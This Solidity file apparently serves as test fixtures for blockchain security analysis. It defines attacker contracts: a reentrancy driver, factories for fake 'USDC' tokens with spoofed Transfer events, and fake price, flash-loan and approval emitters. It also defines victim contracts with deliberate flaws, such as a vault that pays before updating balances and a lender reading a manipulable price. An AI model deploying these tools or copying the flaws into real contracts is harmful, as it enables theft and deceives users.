// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.28;

// What an attacker who may deploy anything brings along, and the victims that he deceives or robs.

/// Wraps coins as WETH9 does: without a Transfer when it wraps and unwraps.
contract WrappedCoin {
    string public constant symbol = "WETH";
    uint8 public constant decimals = 18;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Deposit(address indexed dst, uint256 wad);
    event Withdrawal(address indexed src, uint256 wad);

    receive() external payable {
        deposit();
    }

    function deposit() public payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 wad) external {
        balanceOf[msg.sender] -= wad;
        (bool isPaid, ) = msg.sender.call{value: wad}("");
        require(isPaid);
        emit Withdrawal(msg.sender, wad);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    function totalSupply() external view returns (uint256) {
        return address(this).balance;
    }
}

/// Pays out tokens and coins to anyone; used where the way in does not matter.
contract OpenVault {
    receive() external payable {}

    function touch() external {}

    function pay(address token, address to, uint256 amount) external {
        (bool isPaid, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, amount));
        require(isPaid);
    }

    function runMany(address[] calldata targets, bytes[] calldata inputs) external {
        for (uint256 index = 0; index < targets.length; index++) {
            (bool isDone, ) = targets[index].call(inputs[index]);
            require(isDone);
        }
    }

    function wrap(WrappedCoin coin, uint256 amount) external {
        coin.deposit{value: amount}();
    }

    function unwrapTo(WrappedCoin coin, address to, uint256 amount) external {
        coin.withdraw(amount);
        if (to == address(this)) return;
        (bool isPaid, ) = to.call{value: amount}("");
        require(isPaid);
    }
}

/// Was made for one token, and pays it out to anyone.
contract LooseLocker {
    address private immutable locked;

    constructor(address token) {
        locked = token;
    }

    function pay(address token, address to, uint256 amount) external {
        require(token == locked);
        (bool isPaid, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, amount));
        require(isPaid);
    }
}

/// A token that says whatever its maker wants about who has it and who moved it.
contract LyingToken {
    string public symbol = "USDC";
    uint8 public constant decimals = 6;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 amount);

    function claim(address holder, uint256 amount) public {
        balanceOf[holder] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        claimMove(msg.sender, to, amount);
        return true;
    }

    function claimMove(address from, address to, uint256 amount) public {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// Makes many lying tokens, and has all of them claim a payment in one call.
contract TokenMill {
    LyingToken[] public tokens;

    function make(uint256 count, address holder, uint256 amount) external {
        for (uint256 made = 0; made < count; made++) {
            LyingToken token = new LyingToken();
            token.claim(holder, amount);
            tokens.push(token);
        }
    }

    function claimMoves(address from, address to, uint256 amount) external {
        for (uint256 index = 0; index < tokens.length; index++) tokens[index].claimMove(from, to, amount);
    }
}

/// Reports prices of a pool that is none.
contract LyingPair {
    address public token0;
    address public token1;
    uint112 reserve0 = 1000 ether;
    uint112 reserve1 = 1000 ether;

    event Sync(uint112 reserve0, uint112 reserve1);

    constructor(address first, address second) {
        (token0, token1) = (first, second);
    }

    function getReserves() external view returns (uint112, uint112, uint32) {
        return (reserve0, reserve1, 0);
    }

    function report(uint112 first, uint112 second) external {
        (reserve0, reserve1) = (first, second);
        emit Sync(first, second);
    }
}

/// Reports a loan that it never gives.
contract LyingLender {
    event FlashLoan(
        address indexed target,
        address initiator,
        address indexed asset,
        uint256 amount,
        uint8 interestRateMode,
        uint256 premium,
        uint16 indexed referralCode
    );

    function report(address borrower, address asset, uint256 amount) external {
        emit FlashLoan(borrower, borrower, asset, amount, 0, 0, 0);
    }
}

/// Does several calls in one transaction.
contract Batch {
    receive() external payable {}

    function run(address[] calldata targets, bytes[] calldata inputs) external payable {
        for (uint256 index = 0; index < targets.length; index++) {
            (bool isDone, ) = targets[index].call(inputs[index]);
            require(isDone);
        }
    }
}

/// Lends at the price of a pool, which it reads when it is asked.
contract PricedLender {
    LyingPair public pool;

    constructor(LyingPair source) {
        pool = source;
    }

    receive() external payable {}

    function borrow(address payable to, uint256 amount) external {
        (uint112 first, uint112 second, ) = pool.getReserves();
        require(second > first);
        to.transfer(amount);
    }
}

/// Books what it owes to whom: before it pays in `withdraw`, after that in `withdrawAll`; and lends for a transaction.
contract BookedVault {
    mapping(address => uint256) public balances;

    event Deposited(address indexed who, uint256 amount);
    event Withdrawn(address indexed who, uint256 amount);

    receive() external payable {
        deposit();
    }

    function deposit() public payable {
        balances[msg.sender] += msg.value;
        emit Deposited(msg.sender, msg.value);
    }

    function withdraw(uint256 amount) external {
        balances[msg.sender] -= amount;
        emit Withdrawn(msg.sender, amount);
        pay(amount);
    }

    function withdrawAll() external {
        uint256 amount = balances[msg.sender];
        pay(amount);
        balances[msg.sender] = 0;
        emit Withdrawn(msg.sender, amount);
    }

    /// Looks at its balance alone, and a payment is a deposit, too.
    function lend(uint256 amount) external {
        uint256 before = address(this).balance;
        pay(amount);
        require(address(this).balance >= before);
    }

    function pay(uint256 amount) private {
        (bool isPaid, ) = msg.sender.call{value: amount}("");
        require(isPaid);
    }
}

/// Does several calls in one transaction, and one that was planned each time when coins come.
contract Reenterer {
    address[] targets;
    uint256[] values;
    bytes[] inputs;
    uint256 done;

    receive() external payable {
        if (done >= targets.length) return;
        uint256 place = done++;
        (bool isDone, ) = targets[place].call{value: values[place]}(inputs[place]);
        isDone;
    }

    function plan(address target, uint256 value, bytes calldata input) external payable {
        targets.push(target);
        values.push(value);
        inputs.push(input);
    }

    function forget() external {
        done = targets.length;
    }

    function run(address[] calldata to, uint256[] calldata coins, bytes[] calldata data) external payable {
        for (uint256 index = 0; index < to.length; index++) {
            (bool isDone, ) = to[index].call{value: coins[index]}(data[index]);
            require(isDone);
        }
    }
}

/// A token that says who approved whom.
contract FalseApproval {
    string public symbol = "USDC";
    uint8 public constant decimals = 6;

    event Approval(address indexed owner, address indexed spender, uint256 amount);

    function report(address owner, address spender) external {
        emit Approval(owner, spender, type(uint256).max);
    }
}
